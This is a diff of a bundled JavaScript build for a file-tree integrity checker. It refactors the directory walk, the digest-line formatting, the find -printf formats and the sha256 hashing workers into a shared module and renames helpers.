+ * Visit order among siblings: JavaScript string order (UTF-16 code units, names as byte-names.mjs
+ * spells them). `sortNames` is the same order through the default sort, which is the fastest.
+ * @param {string} a
+ * @param {string} b
+ */
+function compareNames(a, b) {
+  return a < b ? -1 : a > b ? 1 : 0
+}
+
+/**
+ * Sort sibling names into visit order, in place.
+ * @param {string[]} names
+ */
+function sortNames(names) {
+  return names.sort()
+}
+
+const MODE_TEXT = new Map()
+
+/**
+ * Permission bits as four octal digits ("0755"); a handful of distinct modes, so cached.
+ * @param {number} mode
+ */
+function walk_format_modeText(mode) {
+  let t = MODE_TEXT.get(mode)
+  if (t === undefined) {
+    t = (mode & 0o7777).toString(8).padStart(4, '0')
+    MODE_TEXT.set(mode, t)
+  }
+  return t
+}
+
+/**
+ * A time in stamp lines, as GNU find's %T@ prints it (seconds, a dot, nine digits of nanoseconds
+ * and a zero), so find's lines need no conversion. Another spelling (a time before 1970) only
+ * costs a cache miss.
+ * @param {bigint} ns
+ */
+function stampTime(ns) {
+  if (ns < 0n) return `-${-ns}`
+  return `${ns / 1000000000n}.${(ns % 1000000000n).toString().padStart(9, '0')}0`
+}
+
+/** What separates a line's fields and ends a line, in the lines and in find's -printf escapes. */
+const SEP = '\0'
+const END = '\n'
+// \000, never \0: GNU find reads up to three octal digits, so "\0" + "0" would be one NUL.
+const FIND_SEP = '\\000'
+const FIND_END = '\\n'
+
+/** The size field: only a regular file's size is part of the line. */
+const sized = (type, size) => (type === TYPE.file ? size : 0)
+
+// The two layouts below are each line's one definition. The Node walkers fill them with values,
+// find with its -printf directives for the same values: path %p, size %s, mode %04m (modeText),
+// device %D, inode %i, times %T@ and %C@ (stampTime).
+const metaLayout = (path, type, size, mode, sep) => `${path}${sep}${type}${sep}${size}${sep}${mode}`
+const stampLayout = (path, type, dev, ino, mtime, ctime, sep, end) =>
+  `${path}${sep}${type}${sep}${dev}:${ino}:${mtime}:${ctime}${end}`
+
+/**
+ * The meta line's fields without its end: the head of the content line too.
+ * @param {string} rel
+ * @param {string} type
+ * @param {number | bigint} size
+ * @param {number} mode
+ */
+function metaFields(rel, type, size, mode) {
+  return metaLayout(rel, type, sized(type, size), walk_format_modeText(mode), SEP)
+}
+
+/**
+ * One meta line.
+ * @param {string} rel
+ * @param {string} type
+ * @param {number | bigint} size
+ * @param {number} mode
+ */
+function metaLine(rel, type, size, mode) {
+  return metaFields(rel, type, size, mode) + END
+}
+
+/**
+ * The meta line of fields metaFields gave.
+ * @param {string} fields
+ */
+function metaLineOf(fields) {
+  return fields + END
+}
+
+/**
+ * One content line: the meta fields and the file's sha256 or the link's target ('' otherwise).
+ * @param {string} fields metaFields of the entry
+ * @param {string} extra
+ */
+function contentLine(fields, extra) {
+  return `${fields}${SEP}${extra}${END}`
+}
+
+/**
+ * One stamp line.
+ * @param {string} rel
+ * @param {string} type
+ * @param {bigint} dev
+ * @param {bigint} ino
+ * @param {bigint} mtimeNs
+ * @param {bigint} ctimeNs
+ */
+function stampLine(rel, type, dev, ino, mtimeNs, ctimeNs) {
+  return stampLayout(rel, type, dev, ino, stampTime(mtimeNs), stampTime(ctimeNs), SEP, END)
+}
+
+/**
+ * find's -printf format for one kind of line and one type letter: the same layout, with find's
+ * directives for the values.
+ * @param {'meta' | 'stamp'} kind
+ * @param {string} type
+ */
+function findFormat(kind, type) {
+  return kind === 'meta'
+    ? metaLayout('%p', type, sized(type, '%s'), '%04m', FIND_SEP) + FIND_END
+    : stampLayout('%p', type, '%D', '%i', '%T@', '%C@', FIND_SEP, FIND_END)
+}
+
+/**
+ * find's expression printing one line per entry: a -type test and -printf for each letter find
+ * can test, then TYPE.other for the rest.
+ * @param {'meta' | 'stamp'} kind
+ * @returns {string[]}
+ */
+function findPrintArgs(kind) {
+  return [
+    ...FIND_TYPES.flatMap((t, i) => [
+      ...(i > 0 ? ['-o'] : []),
+      '-type',
+      t,
+      '-printf',
+      findFormat(kind, t)
+    ]),
+    '-o',
+    '-printf',
+    findFormat(kind, TYPE.other)
+  ]
+}
+
+/** The bytes find's lines are split on, and the type letter that opens a subtree. */
+const LINE_END = END.charCodeAt(0)
+const FIELD_SEP = SEP.charCodeAt(0)
+const DIR_BYTE = TYPE.dir.charCodeAt(0)
+
+/**
+ * An entry's identity in the per-file cache: dev:ino:mtime_ns:ctime_ns (raw nanoseconds).
+ * @param {bigint} dev
+ * @param {bigint} ino
+ * @param {bigint} mtimeNs
+ * @param {bigint} ctimeNs
+ */
+function identText(dev, ino, mtimeNs, ctimeNs) {
+  return `${dev}:${ino}:${mtimeNs}:${ctimeNs}`
+}
+
+/**
+ * A file's value in the per-file cache: its identity, size and sha256.
+ * @param {string} ident
+ * @param {number} size
+ * @param {string} sha256
+ */
+function cacheText(ident, size, sha256) {
+  return `${ident} ${size} ${sha256}`
+}
+
+/**
+ * The entries of one directory in visit order, each lstat'ed (never followed): `each` gets its
+ * absolute path, its path relative to the tree, its type letter and its BigIntStats. Names in
+ * `rules.skip` are left out before their lstat, absolute paths in `rules.exclude` too, and
+ * entries `rules.ignored` matches after it. Throws when the directory cannot be listed.
+ * @param {string} absDir
+ * @param {string} relDir '' for the tree's root
+ * @param {WalkRules} rules
+ * @param {EachEntry} each
+ */
+function eachChild(absDir, relDir, rules, each) {
+  inOrder(absDir, relDir, sortNames(readNames(absDir)), rules, each)
+}
+
+function inOrder(absDir, relDir, names, rules, each) {
+  const { skip, exclude, ignored } = rules
+  for (const name of names) {
+    if (skip?.has(name)) continue
+    const abs = `${absDir}/${name}`
+    if (exclude.has(abs)) continue
+    const st = external_node_fs_.lstatSync(byte_names_fsPath(abs), { bigint: true, throwIfNoEntry: false })
+    if (!st) continue // vanished between readdir and lstat: the same as not there
+    const rel = relDir ? `${relDir}/${name}` : name
+    if (ignored?.(rel, name, st.isDirectory())) continue
+    each(abs, rel, typeOf(st), st)
+  }
+}
+
+/**
+ * The walk: depth first, each directory's children in visit order, each followed by its own
+ * subtree, so no global sort is needed. Directories that cannot be listed are added to
+ * `unreadable` with their error code (the root as '.').
+ * @param {string} rootAbs
+ * @param {string} rootRel
+ * @param {WalkRules} rules
+ * @param {EachEntry} each
+ * @param {{ rel: string, code: string }[]} unreadable
+ */
+function visitTree(rootAbs, rootRel, rules, each, unreadable) {
+  const visit = (absDir, relDir) => {
+    let names
+    try {
+      names = sortNames(readNames(absDir))
+    } catch (err) {
+      unreadable.push({ rel: relDir || '.', code: err?.code ?? 'EIO' })
+      return
+    }
+    inOrder(absDir, relDir, names, rules, (abs, rel, type, st) => {
+      each(abs, rel, type, st)
+      if (type === TYPE.dir) visit(abs, rel)
+    })
+  }
+  visit(rootAbs, rootRel)
+}
+
+/**
+ * @typedef {{ skip?: ReadonlySet<string>, exclude: ReadonlySet<string>,
+ *   ignored?: (rel: string, name: string, isDir: boolean) => boolean }} WalkRules
+ * @typedef {(abs: string, rel: string, type: string, st: import('node:fs').BigIntStats) => void} EachEntry
+ */
+
 ;// CONCATENATED MODULE: ./src/core/verify/hash-kernel.mjs
 // The hashing kernel, shared by the main thread and the hash workers. Plain JavaScript so the same
 // file runs as a worker_threads script from src/ (tests) and from dist/ (the bundles) without a
 // build step. Synchronous reads into one reused buffer measured 3-6x faster than fs.promises
 // here; files are opened with O_NOFOLLOW (a symlink swapped in for a file is an error, never a
 // read elsewhere) and O_NONBLOCK (a FIFO planted in a tree cannot hang the check).
+
 
 
 
@@ -38305,8 +39088,8 @@ function readFully(fd, buf, length, position) {
  * @param {string} abs
  * @returns {{ sha256: string, size: number, mode: number }}
  */
-function hashFile(abs) {
-  const fd = external_node_fs_.openSync(fsPath(abs), READ_FLAGS)
+function hash_kernel_hashFile(abs) {
+  const fd = external_node_fs_.openSync(byte_names_fsPath(abs), READ_FLAGS)
   try {
     const st = external_node_fs_.fstatSync(fd)
     if (!st.isFile()) throw notAFile(abs)
@@ -38338,7 +39121,7 @@ const oneShot = typeof external_node_crypto_.hash === 'function' ? buf => extern
  * @returns {string}
  */
 function hashWalked(abs, size) {
-  const fd = external_node_fs_.openSync(fsPath(abs), READ_FLAGS)
+  const fd = external_node_fs_.openSync(byte_names_fsPath(abs), READ_FLAGS)
   try {
     const buf = buffer()
     if (size < buf.length) {
@@ -38372,8 +39155,8 @@ function hashWalked(abs, size) {
  * @param {string} abs
  * @returns {{ sha256: string, size: number, mode: number }}
  */
-function hashHeadTail(abs) {
-  const fd = external_node_fs_.openSync(fsPath(abs), READ_FLAGS)
+function hash_kernel_hashHeadTail(abs) {
+  const fd = external_node_fs_.openSync(byte_names_fsPath(abs), READ_FLAGS)
   try {
     const st = external_node_fs_.fstatSync(fd)
     if (!st.isFile()) throw notAFile(abs)
@@ -38392,19 +39175,9 @@ function hashHeadTail(abs) {
  * @param {string} abs
  * @param {'full' | 'headtail'} how
  */
-/**
- * A time in cache stamps, as GNU find's %T@ prints it (seconds, a dot, nine digits of nanoseconds
- * and a zero): the native walker (native-walk.ts) then passes find's lines through unchanged.
- * Another spelling (a time before 1970) only costs a cache miss.
- */
-function stampTime(ns) {
-  if (ns < 0n) return `-${-ns}`
-  return `${ns / 1000000000n}.${(ns % 1000000000n).toString().padStart(9, '0')}0`
-}
-
-function runJob(abs, how) {
+function hash_kernel_runJob(abs, how) {
   try {
-    return how === 'headtail' ? hashHeadTail(abs) : hashFile(abs)
+    return how === 'headtail' ? hash_kernel_hashHeadTail(abs) : hash_kernel_hashFile(abs)
   } catch (err) {
     return { error: typeof err?.code === 'string' ? err.code : 'EIO' }
   }
@@ -38419,7 +39192,7 @@ if (!external_node_worker_threads_.isMainThread && external_node_worker_threads_
   for (;;) {
     const i = Atomics.add(next, 0, 1)
     if (i >= paths.length) break
-    batch.push([i, runJob(paths[i], hows[i])])
+    batch.push([i, hash_kernel_runJob(paths[i], hows[i])])
     if (batch.length >= 512) {
       external_node_worker_threads_.parentPort.postMessage(batch)
       batch = []
@@ -38427,37 +39200,6 @@ if (!external_node_worker_threads_.isMainThread && external_node_worker_threads_
   }
   external_node_worker_threads_.parentPort.postMessage(batch)
   external_node_worker_threads_.parentPort.postMessage('done')
-}
-
-/**
- * Walking subtrees in a worker, so both cores lstat (and hash) at once. `eachEntry` receives every
- * entry below the root in walk order (children sorted, symlinks never followed).
- */
-function visitSubtree(rootAbs, rootRel, rules, eachEntry, unreadable) {
-  // Plain names only: glob rules keep the walk in the main thread (ignore-rules.ts).
-  const ignored = name => rules.names.has(name)
-  const visit = (absDir, relDir) => {
-    let names
-    try {
-      names = readNames(absDir)
-    } catch (err) {
-      unreadable.push({ rel: relDir, code: err?.code ?? 'EIO' })
-      return
-    }
-    names.sort()
-    for (const name of names) {
-      const rel = `${relDir}/${name}`
-      if (ignored(name)) continue
-      const abs = `${absDir}/${name}`
-      if (rules.exclude.has(abs)) continue
-      const st = external_node_fs_.lstatSync(fsPath(abs), { bigint: true, throwIfNoEntry: false })
-      if (!st) continue
-      const type = st.isFile() ? 'f' : st.isDirectory() ? 'd' : st.isSymbolicLink() ? 'l' : 'o'
-      eachEntry(abs, rel, type, st)
-      if (type === 'd') visit(abs, rel)
-    }
-  }
-  visit(rootAbs, rootRel)
 }
 
 /** hashWalked, or undefined when the file cannot be read (it is then reported unreadable). */
@@ -38502,7 +39244,7 @@ const NO_SHA = '-'.repeat(64)
 /**
  * A subtree walked (and, with `hash`, its files hashed) in one pass, returned in a form that
  * crosses to the main thread cheaply and asks nothing more of it than hashing in walk order: the
- * digest lines exactly as walk.ts spells them (meta, stamp and, with `hash`, content), the
+ * digest lines exactly as walk-format.mjs spells them (meta, stamp and, with `hash`, content), the
  * per-file cache entries as a JSON fragment, and the records as packed columns (typed arrays,
  * one string of names and one of hashes) that the main thread unpacks only when a diff needs them.
  */
@@ -38524,7 +39266,7 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
   let files = 0
   let failed = 0
   const each = (abs, rel, type, st) => {
-    const size = type === 'f' ? Number(st.size) : 0
+    const size = type === TYPE.file ? Number(st.size) : 0
     const mode = Number(st.mode & 0o7777n)
     rels.push(rel)
     types.push(type)
@@ -38534,24 +39276,22 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
     inos.push(st.ino)
     mtimes.push(st.mtimeNs)
     ctimes.push(st.ctimeNs)
-    if (type !== 'd') files++
-    const head = `${rel}\0${type}\0${size}\0${modeText(mode)}`
-    meta.add(`${head}\n`)
-    stamp.add(
-      `${rel}\0${type}\0${st.dev}:${st.ino}:${stampTime(st.mtimeNs)}:${stampTime(st.ctimeNs)}\n`
-    )
+    if (type !== TYPE.dir) files++
+    const fields = metaFields(rel, type, size, mode)
+    meta.add(metaLineOf(fields))
+    stamp.add(stampLine(rel, type, st.dev, st.ino, st.mtimeNs, st.ctimeNs))
     let sha = NO_SHA
     if (!hash) return void shas.push(sha)
     let extra = ''
-    if (type === 'f') {
+    if (type === TYPE.file) {
       const r = walkedOrError(abs, size)
       if (r === undefined) failed++
       else {
         sha = extra = r
-        const value = `${st.dev}:${st.ino}:${st.mtimeNs}:${st.ctimeNs} ${size} ${sha}`
+        const value = cacheText(identText(st.dev, st.ino, st.mtimeNs, st.ctimeNs), size, sha)
         cache.add(`,${JSON.stringify(rel)}:${JSON.stringify(value)}`)
       }
-    } else if (type === 'l') {
+    } else if (type === TYPE.link) {
       try {
         extra = readTarget(abs)
       } catch {
@@ -38559,9 +39299,9 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
       }
     }
     shas.push(sha)
-    content.add(`${head}\0${extra}\n`)
+    content.add(contentLine(fields, extra))
   }
-  visitSubtree(rootAbs, rootRel, rules, each, unreadable)
+  visitTree(rootAbs, rootRel, rules, each, unreadable)
   return {
     count: rels.length,
     files,
@@ -38583,19 +39323,9 @@ function subtreeColumns(rootAbs, rootRel, rules, hash) {
   }
 }
 
-const MODE_TEXT = new Map()
-function modeText(mode) {
-  let t = MODE_TEXT.get(mode)
-  if (t === undefined) {
-    t = (mode & 0o7777).toString(8).padStart(4, '0')
-    MODE_TEXT.set(mode, t)
-  }
-  return t
-}
-
 /**
  * The digest lines of a subtree as one string, without per-entry records: `meta` lines (relpath,
- * type, size, mode) or `stamp` lines (relpath and identity), exactly as walk.ts spells them.
+ * type, size, mode) or `stamp` lines (relpath and identity), as walk-format.mjs spells them.
  */
 function subtreeText(rootAbs, rootRel, rules, kind) {
   const chunks = []
@@ -38605,15 +39335,15 @@ function subtreeText(rootAbs, rootRel, rules, kind) {
   const each = (_abs, rel, type, st) => {
     text +=
       kind === 'meta'
-        ? `${rel}\0${type}\0${type === 'f' ? st.size : 0}\0${modeText(Number(st.mode))}\n`
-        : `${rel}\0${type}\0${st.dev}:${st.ino}:${stampTime(st.mtimeNs)}:${stampTime(st.ctimeNs)}\n`
+        ? metaLine(rel, type, st.size, Number(st.mode & 0o7777n))
+        : stampLine(rel, type, st.dev, st.ino, st.mtimeNs, st.ctimeNs)
     if (text.length > 1 << 16) {
       chunks.push(text)
       text = ''
     }
-    if (type !== 'd') files++
+    if (type !== TYPE.dir) files++
   }
-  visitSubtree(rootAbs, rootRel, rules, each, unreadable)
+  visitTree(rootAbs, rootRel, rules, each, unreadable)
   chunks.push(text)
   return { text: chunks.join(''), files, unreadable }
 }
@@ -38621,7 +39351,8 @@ function subtreeText(rootAbs, rootRel, rules, kind) {
 // Walk workers: claim roots from a shared counter, post each root's result with its index.
 if (!external_node_worker_threads_.isMainThread && (external_node_worker_threads_.workerData?.swrWalkWorker || external_node_worker_threads_.workerData?.swrTextWorker)) {
   const { roots, counter, hash, kind, names, exclude } = external_node_worker_threads_.workerData
-  const rules = { names: new Set(names), exclude: new Set(exclude) }
+  // Plain names only (skipped before their lstat): glob rules keep the walk in the main thread.
+  const rules = { skip: new Set(names), exclude: new Set(exclude) }
   const next = new Int32Array(counter)
   for (;;) {
     const i = Atomics.add(next, 0, 1)
@@ -38668,7 +39399,7 @@ function verifyBlob(e, ctx) {
     const st = loc.st;
     const size = Number(st.size);
     const mode = Number(st.mode & 4095n);
-    const found = { type: 'file', size, mode: octal(mode) };
+    const found = { type: 'file', size, mode: mode_octal(mode) };
     if (size !== want.size) {
         const how = size < want.size ? 'truncated' : 'grown';
         const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)}): ${how}`;
@@ -38711,11 +39442,11 @@ function verifyBlob(e, ctx) {
     };
 }
 function judgeBlobMode(e, mode, recorded, found, deep, cached) {
-    if (e.expect.mode && lostExec(parseMode(e.expect.mode), mode)) {
-        return finding(e, 'STRIPPED', 'exec', `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`, recorded, found, cached);
+    if (e.expect.mode && lostExec(mode_parseMode(e.expect.mode), mode)) {
+        return finding(e, 'STRIPPED', 'exec', `mode ${mode_octal(mode)}, exec bit lost (want ${e.expect.mode})`, recorded, found, cached);
     }
-    if (e.expect.mode && mode !== parseMode(e.expect.mode)) {
-        const detail = `mode ${octal(mode)} (want ${e.expect.mode})`;
+    if (e.expect.mode && mode !== mode_parseMode(e.expect.mode)) {
+        const detail = `mode ${mode_octal(mode)} (want ${e.expect.mode})`;
         return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
     }
     const how = deep ? 'size, head/tail and full sha256 match' : 'size and head/tail match';
@@ -38740,7 +39471,7 @@ function verifyFile(e, ctx) {
     const st = loc.st;
     const size = Number(st.size);
     const mode = Number(st.mode & 4095n);
-    const found = { type: 'file', size, mode: octal(mode) };
+    const found = { type: 'file', size, mode: mode_octal(mode) };
     if (size !== want.size) {
         const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)})`;
         return finding(e, 'CORRUPT', 'size', detail, recorded, found);
@@ -38772,7 +39503,7 @@ function verifyFile(e, ctx) {
     };
 }
 function judgeMode(e, mode, found, cached) {
-    const wanted = parseMode(e.expect.mode);
+    const wanted = mode_parseMode(e.expect.mode);
     const recorded = {
         type: 'file',
         size: e.expect.size,
@@ -38780,11 +39511,11 @@ function judgeMode(e, mode, found, cached) {
         sha256: verifier_short(e.expect.sha256)
     };
     if (lostExec(wanted, mode)) {
-        const detail = `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`;
+        const detail = `mode ${mode_octal(mode)}, exec bit lost (want ${e.expect.mode})`;
         return finding(e, 'STRIPPED', 'exec', detail, recorded, found, cached);
     }
     if (mode !== wanted) {
-        const detail = `mode ${octal(mode)} (want ${e.expect.mode})`;
+        const detail = `mode ${mode_octal(mode)} (want ${e.expect.mode})`;
         return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
     }
     return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, mode ${e.expect.mode}`, recorded, found, cached);
@@ -38802,11 +39533,11 @@ function judgeMode(e, mode, found, cached) {
 const INLINE_BYTES = 48 * 1024 * 1024;
 const INLINE_COUNT = 400;
 /** Where the kernel lives next to this module, in src/ and in every bundle alike. */
-function kernelUrl() {
+function hash_pool_kernelUrl() {
     return __nccwpck_require__.ab + "hash-kernel.mjs";
 }
 /** Hash every job; results are in job order. */
-async function hashAll(jobs, opts = {}) {
+async function hash_pool_hashAll(jobs, opts = {}) {
     const total = jobs.reduce((s, j) => s + j.cost, 0);
     const cores = opts.jobs ?? external_node_os_default().availableParallelism();
     const workers = Math.max(1, Math.min(cores, opts.maxWorkers ?? 32, 32, jobs.length));
@@ -38815,7 +39546,7 @@ async function hashAll(jobs, opts = {}) {
     if (cores <= 1 || (total < INLINE_BYTES && jobs.length < INLINE_COUNT)) {
         let done = 0;
         return jobs.map(j => {
-            const r = runJob(j.abs, j.how);
+            const r = hash_kernel_runJob(j.abs, j.how);
             done += j.cost;
             opts.onProgress?.(done, total);
             return r;
@@ -38839,7 +39570,7 @@ async function hashAll(jobs, opts = {}) {
 }
 function runWorker(workerData, onBatch) {
     return new Promise((resolve, reject) => {
-        const w = new external_node_worker_threads_.Worker(kernelUrl(), { workerData });
+        const w = new external_node_worker_threads_.Worker(hash_pool_kernelUrl(), { workerData });
         let finished = false;
         w.on('message', (m) => {
             if (m === 'done') {
@@ -38877,7 +39608,7 @@ function verifyLink(e, ctx) {
         return loc;
     const target = external_node_fs_default().readlinkSync(loc.abs);
     const found = { type: 'symlink', target };
-    const end = followInside(ctx.workspace, loc.abs, target);
+    const end = link_followInside(ctx.workspace, loc.abs, target);
     if (target !== want) {
         const where = end.state === 'outside' ? ', outside the workspace' : '';
         return finding(e, 'CORRUPT', 'target', `points to ${target}${where} (want ${want})`, recorded, found);
@@ -38892,14 +39623,14 @@ function verifyLink(e, ctx) {
     }
 }
 /** Follow `target` from the link at `abs`, one contained hop at a time. */
-function followInside(workspace, abs, target) {
+function link_followInside(workspace, abs, target) {
     let from = abs;
     let to = target;
     for (let hop = 0; hop < MAX_HOPS; hop++) {
         const next = external_node_path_default().resolve(external_node_path_default().dirname(from), to);
-        if (!isInside(workspace, next))
+        if (!paths_isInside(workspace, next))
             return { state: 'outside' };
-        const loc = locateInside(workspace, external_node_path_default().relative(workspace, next) || '.');
+        const loc = locate_entry_locateInside(workspace, external_node_path_default().relative(workspace, next) || '.');
         if (loc.state === 'escapes')
             return { state: 'outside' };
         if (loc.state === 'missing')
@@ -38952,21 +39683,21 @@ function indexBudget(entries) {
 }
 const LIST_LIMIT = 20;
 /** Where the index of tree `id` lives for the manifest at `manifestFile`. */
-function indexPath(manifestFile, id) {
+function tree_index_indexPath(manifestFile, id) {
     return external_node_path_default().join(external_node_path_default().dirname(manifestFile), 'trees', `${id}.index.gz`);
 }
-function encodeIndex(records) {
+function tree_index_encodeIndex(records) {
     const lines = [
         HEADER,
         ...records.map(r => JSON.stringify([r.rel, r.type, r.mode, r.size, r.extra ?? null]))
     ];
     return gzipSync(lines.join('\n') + '\n', { level: 6 });
 }
-function indexRef(bytes, entries) {
+function tree_index_indexRef(bytes, entries) {
     return { sha256: createHash('sha256').update(bytes).digest('hex'), entries };
 }
 /** Read an index and check it against the manifest; undefined when absent, altered or unreadable. */
-function readIndex(file, ref) {
+function tree_index_readIndex(file, ref) {
     if (!ref)
         return undefined;
     try {
@@ -39016,7 +39747,7 @@ function diffIndex(recorded, now, nowExtra) {
             if (r.type === 'f' && b.size !== r.size)
                 what.push(`size ${b.size} -> ${r.size}`);
             if (r.type !== 'l' && b.mode !== r.mode) {
-                what.push(`mode ${octal(b.mode)} -> ${octal(r.mode)}`);
+                what.push(`mode ${mode_octal(b.mode)} -> ${mode_octal(r.mode)}`);
                 if (!lostExec(b.mode, r.mode))
                     execLossOnly = false;
             }
@@ -39050,8 +39781,6 @@ function diffIndex(recorded, now, nowExtra) {
     };
 }
 
-;// CONCATENATED MODULE: external "node:child_process"
-const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
 // EXTERNAL MODULE: ./node_modules/ignore/index.js
 var ignore = __nccwpck_require__(298);
 var ignore_default = /*#__PURE__*/__nccwpck_require__.n(ignore);
@@ -39116,7 +39845,7 @@ function allPlainNames(rules) {
  * The matcher: `rel` is the path relative to the tree, `name` its last segment, `isDir` whether it
  * is a directory (trailing-slash rules match only those). Throws on a rule set over the bounds.
  */
-function ignoreMatcher(rules) {
+function ignore_rules_ignoreMatcher(rules) {
     if (rules.length === 0)
         return () => false;
     const problem = ruleSetProblems(rules)[0];
@@ -39133,20 +39862,167 @@ function ignoreMatcher(rules) {
     return (rel, name, isDir = false) => names.has(name) || ig.ignores(isDir ? `${rel}/` : rel);
 }
 
+;// CONCATENATED MODULE: ./src/core/verify/walk.ts
+/**
+ * The tree walk's records and the digests defined over them; the order and the lines are
+ * walk-format.mjs's. Symlinks are recorded, never followed. Names are bytes (see byte-names.mjs):
+ * lines hold them as the file system does, so a name that is not UTF-8 is walked, digested and
+ * indexed like any other. Which walker walks a tree is walk-strategy.ts's choice.
+ */
+
+
+
+
+
+
+/** The incremental-cache identity of a walked entry: dev:ino:mtime_ns:ctime_ns. */
+function ident(r) {
+    return identText(r.dev, r.ino, r.mtimeNs, r.ctimeNs);
+}
+
+function walk_metaLine(r) {
+    return metaLine(r.rel, r.type, r.size, r.mode);
+}
+/** Feed digest lines to a hash: as UTF-8, or as the name bytes they carry when not plain text. */
+function updateLines(h, text) {
+    h.update(text.isWellFormed() ? text : bytesOf(text));
+}
+/** Hash one line per record, in chunks (one hash update per record costs more than the hash). */
+function digestLines(records, line) {
+    const h = (0,external_node_crypto_.createHash)('sha256');
+    const CHUNK = 2048;
+    for (let i = 0; i < records.length; i += CHUNK) {
+        let text = '';
+        const end = Math.min(records.length, i + CHUNK);
+        for (let k = i; k < end; k++)
+            text += line(records[k], k);
+        updateLines(h, text);
+    }
+    return h.digest('hex');
+}
+/** The metadata digest: relpath, type, size and mode of every entry in walk order. */
+function walk_metaDigestOf(records) {
+    return digestLines(records, walk_metaLine);
+}
+/** One stamp line: path and identity. */
+function walk_stampLine(r) {
+    return stampLine(r.rel, r.type, r.dev, r.ino, r.mtimeNs, r.ctimeNs);
+}
+/**
+ * The cache stamp: every entry's path and identity (dev, inode, mtime_ns, ctime_ns). Any change of
+ * type, size or mode also changes ctime, so the stamp vouches for the metadata digest too.
+ */
+function stampOf(records) {
+    return digestLines(records, walk_stampLine);
+}
+/** The record of one lstat'ed entry. */
+function recordOf(rel, type, st) {
+    return {
+        rel,
+        type,
+        size: type === TYPE.file ? Number(st.size) : 0,
+        mode: Number(st.mode & 4095n),
+        dev: st.dev,
+        ino: st.ino,
+        mtimeNs: st.mtimeNs,
+        ctimeNs: st.ctimeNs
+    };
+}
+/**
+ * Walk the tree at `root` (already known to be a real directory) in walk-format.mjs's order,
+ * collecting one record per entry; digests are computed afterwards, only those the caller needs.
+ * `exclude` holds absolute paths of swr's own files (state directory, manifest, tree indexes)
+ * that are never part of a tree.
+ */
+function walk_walkTree(root, ignore, exclude = new Set()) {
+    const records = [];
+    const unreadable = [];
+    let files = 0;
+    const rules = { exclude, ignored: ignore_rules_ignoreMatcher(ignore) };
+    visitTree(root, '', rules, (_abs, rel, type, st) => {
+        records.push(recordOf(rel, type, st));
+        if (type !== TYPE.dir)
+            files++;
+    }, unreadable);
+    return { records, files, unreadable };
+}
+/** The content digest, given each file's sha256 and each link's target (by record index). */
+function walk_contentDigest(records, extra) {
+    return digestLines(records, (r, i) => contentLine(metaFields(r.rel, r.type, r.size, r.mode), extra[i] ?? ''));
+}
+/** Link targets for the link records (readlink never follows). */
+function walk_linkTargets(root, records) {
+    return records.map(r => {
+        if (r.type !== TYPE.link)
+            return undefined;
+        try {
+            return readTarget(external_node_path_default().join(root, r.rel));
+        }
+        catch {
+            return '';
+        }
+    });
+}
+/** A walk whose digests are computed only if and when something reads them. */
+function lazyDigests(walk, knownMeta) {
+    let meta;
+    let stamp;
+    // Getters, not a copy: a parallel walk's records are unpacked only when something reads them.
+    return {
+        get records() {
+            return walk.records;
+        },
+        files: walk.files,
+        unreadable: walk.unreadable,
+        get shas() {
+            return walk.shas;
+        },
+        pre: walk.pre,
+        get metaDigest() {
+            meta ??= walk.pre?.meta ?? knownMeta?.() ?? walk_metaDigestOf(walk.records);
+            return meta;
+        },
+        get stamp() {
+            stamp ??= walk.pre?.stamp ?? stampOf(walk.records);
+            return stamp;
+        }
+    };
+}
+/**
+ * The top level's names in walk order, typed from the directory listing (the file system's d_type;
+ * Node falls back to lstat where it is unknown). Undefined when the root cannot be listed.
+ */
+function listTop(root, ignore, exclude) {
+    let entries;
+    try {
+        entries = readEntries(root);
+    }
+    catch {
+        return undefined;
+    }
+    const ignored = ignore_rules_ignoreMatcher(ignore);
+    return entries
+        .map(d => ({ rel: d.name, dir: d.dir }))
+        .filter(t => !ignored(t.rel, t.rel, t.dir) && !exclude.has(`${root}/${t.rel}`))
+        .sort((a, b) => compareNames(a.rel, b.rel));
+}
+/** A file's entry in the per-file cache: its identity, size and sha256. */
+function cacheValue(r, sha256) {
+    return cacheText(ident(r), r.size, sha256);
+}
+
 ;// CONCATENATED MODULE: ./src/core/verify/find-lines.ts
 /**
  * find's output as lines, indexed and re-sorted into the Node walker's order. find prints each
- * directory in readdir order, one start point after another; the Node walker (hash-kernel.mjs)
- * visits each directory's children sorted by name, each followed by its own subtree. Everything
+ * directory in readdir order, one start point after another; the walk (walk-format.mjs) visits
+ * each directory's children sorted by name, each followed by its own subtree. Everything
  * here works on the bytes as find wrote them: lines are found, compared and copied as bytes and
  * hashed as they are, with no string per line (strings were most of the time, and most of the
  * garbage, when lines were decoded).
  */
 
-const NL = 0x0a;
-const NUL = 0x00;
+
 const SLASH = 0x2f;
-const TYPE_DIR = 0x64;
 /**
  * Where each line of find's output starts, where its path ends, where its name starts, and where
  * its subtree ends (the next line that is not below it): siblings are then found by jumping, and
@@ -39188,7 +40064,7 @@ class Lines {
         let last = -1;
         for (let i = 0; i < n; i++) {
             const c = b[i];
-            if (c === NL) {
+            if (c === LINE_END) {
                 if (z <= s)
                     return false;
                 this.push(s, z, d, last + 1);
@@ -39198,7 +40074,7 @@ class Lines {
                 last = i;
             }
             else if (z === -1) {
-                if (c === NUL)
+                if (c === FIELD_SEP)
                     z = i;
                 else if (c === SLASH) {
                     d++;
@@ -39243,7 +40119,10 @@ class Lines {
             this.end[open.pop()] = this.count;
         }
     }
-    /** Byte order of two lines' names (names are unique among siblings: never 0). */
+    /**
+     * Byte order of two lines' names (names are unique among siblings: never 0): walk-format.mjs's
+     * visit order on the names' bytes, the same order but where native-walk.ts says it is not.
+     */
     compareNames(x, y) {
         const k = this.key[x] - this.key[y];
         if (k !== 0)
@@ -39262,7 +40141,7 @@ class Lines {
     }
     /** Both kinds of line carry the type right after the path. */
     isDir(k) {
-        return this.bytes[this.nul[k] + 1] === TYPE_DIR;
+        return this.bytes[this.nul[k] + 1] === DIR_BYTE;
     }
